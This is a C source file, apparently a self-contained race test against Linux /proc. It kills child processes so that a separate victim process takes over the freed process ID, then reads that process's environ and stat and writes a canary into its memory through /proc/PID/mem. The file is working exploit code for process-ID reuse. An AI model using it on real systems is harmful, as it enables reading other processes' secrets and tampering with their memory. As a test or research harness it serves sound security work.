/*
 * reuse OPENS SECONDS FILE, and reuse victims FILE outside: process IDs that change hands.
 *
 * Inside, children are made and killed while threads open their maps, environ and mem. The
 * program outside gives the number of each that has ended to a process of its own
 * (clone3 with set_tid, which takes CAP_CHECKPOINT_RESTORE), with a canary in its memory and
 * another environment. Both sides meet in FILE, which both map. Inside it prints
 *
 *   RACE opens N harmless N refused N torn N memory N changed N
 *   REUSE rounds N outside N
 *
 * "harmless" counts files of the own children, "memory" the environ of a process outside, and
 * mem files of any, "changed" canaries, "outside" opens of the stat of one that has taken a
 * number over: the race that there has to be.
 */
#include "attack.h"
#include <linux/sched.h>
#include <linux/capability.h>
#include <pthread.h>
#include <stdatomic.h>
#include <time.h>

#define THREADS 2
#define OURS "REUSE=inside"
#define THEIRS "REUSE=outside"

struct meeting {
	atomic_int want, made; /* process IDs; 0: none */
	atomic_ulong changed, address; /* of the victims' canary */
};

static struct meeting *met;
static atomic_ulong opens, plain, refused, torn, got, outside;
static atomic_int number, stop;

static struct meeting *meet(const char *file)
{
	int fd = open(file, O_RDWR);
	void *at = fd < 0 ? MAP_FAILED : mmap(NULL, sizeof *met, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (at == MAP_FAILED) {
		perror(file);
		exit(2);
	}
	return at;
}

/* victim has no capability, so that its user may trace it. */
static void victim(void)
{
	struct __user_cap_header_struct head = { _LINUX_CAPABILITY_VERSION_3, 0 };
	struct __user_cap_data_struct none[2] = { { 0, 0, 0 } };
	syscall(__NR_capset, &head, none);
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	met->made = getpid();
	for (;;) {
		if (canary != CANARY_OLD) {
			met->changed++;
			canary = CANARY_OLD;
		}
		usleep(50);
	}
}

static int victims(void)
{
	met->address = (uintptr_t)&canary;
	for (;;) {
		pid_t want = met->want;
		if (want <= 0) {
			usleep(20);
			continue;
		}
		struct clone_args args = { .exit_signal = SIGCHLD, .set_tid = (uint64_t)(uintptr_t)&want, .set_tid_size = 1 };
		long p = syscall(__NR_clone3, &args, sizeof args);
		if (p == 0)
			victim();
		if (p < 0 && errno != EEXIST) {
			perror("clone3");
			return 2;
		}
		if (p < 0)
			continue;
		while (met->want == want)
			usleep(20);
		kill((pid_t)p, SIGKILL);
		waitpid((pid_t)p, NULL, 0);
		met->made = 0;
	}
}

static void examine(int fd, int kind)
{
	static const char line[] = "(exe) "; /* as this was executed */
	char text[4096] = "";
	uint64_t v = CANARY_NEW;
	if (kind == 0) {
		got++;
		if (pwrite(fd, &v, sizeof v, (off_t)met->address) < 0)
			torn++; /* it has ended; the victim itself counts what changes */
		return;
	}
	ssize_t n = read(fd, text, sizeof text - 1);
	if (n <= 0) {
		torn++;
	} else if (kind == 1) {
		int parent = 0;
		char *at = strstr(text, line);
		if (at && sscanf(at + strlen(line), "%*c %d", &parent) == 1 && parent != getpid())
			outside++;
		plain++;
	} else if (memmem(text, (size_t)n, THEIRS, strlen(THEIRS))) {
		got++;
	} else {
		plain++;
	}
}

static void *opener(void *arg)
{
	static const char *names[] = { "environ", "stat", "mem", "environ" };
	unsigned turn = (unsigned)(uintptr_t)arg;
	for (; !stop; turn++) {
		char path[64];
		int i = (int)(turn % 4), kind = i == 1 ? 1 : i == 2 ? 0 : 2;
		snprintf(path, sizeof path, "/proc/%d/%s", number, names[i]);
		int fd = open(path, kind ? O_RDONLY : O_RDWR);
		opens++;
		if (fd >= 0) {
			examine(fd, kind);
			close(fd);
		} else if (errno == EACCES || errno == EPERM) {
			refused++;
		} else {
			torn++;
		}
	}
	return NULL;
}

int main(int argc, char **argv)
{
	if (argc < 4)
		return 2;
	int theirs = strcmp(argv[1], "victims") == 0;
	met = meet(argv[theirs ? 2 : 3]);
	if (!getenv("REUSE")) { /* the environment is what was executed */
		putenv(theirs ? THEIRS : OURS);
		execv("/proc/self/exe", argv);
		return 2;
	}
	if (theirs)
		return victims();
	unsigned long limit = strtoul(argv[1], NULL, 10), rounds = 0;
	time_t until = time(NULL) + atoi(argv[2]);
	pthread_t t[THREADS];
	number = getpid();
	met->changed = 0; /* by an earlier run */
	for (int i = 0; i < THREADS; i++)
		pthread_create(&t[i], NULL, opener, (void *)(uintptr_t)i);
	while (opens < limit && time(NULL) < until) {
		pid_t child = fork();
		if (child == 0) {
			prctl(PR_SET_PDEATHSIG, SIGKILL);
			for (;;)
				pause();
		}
		number = child;
		usleep(100 + rounds % 7 * 50);
		kill(child, SIGKILL);
		waitpid(child, NULL, 0);
		met->want = child;
		for (int i = 0; met->made != child && i < 5000; i++)
			usleep(20);
		usleep(100);
		met->want = 0;
		for (int i = 0; met->made != 0 && i < 5000; i++)
			usleep(20);
		rounds++;
	}
	stop = 1;
	for (int i = 0; i < THREADS; i++)
		pthread_join(t[i], NULL);
	printf("RACE opens %lu harmless %lu refused %lu torn %lu memory %lu changed %lu\n", (unsigned long)opens,
	       (unsigned long)plain, (unsigned long)refused, (unsigned long)torn, (unsigned long)got, (unsigned long)met->changed);
	printf("REUSE rounds %lu outside %lu\n", rounds, (unsigned long)outside);
	return 0;
}
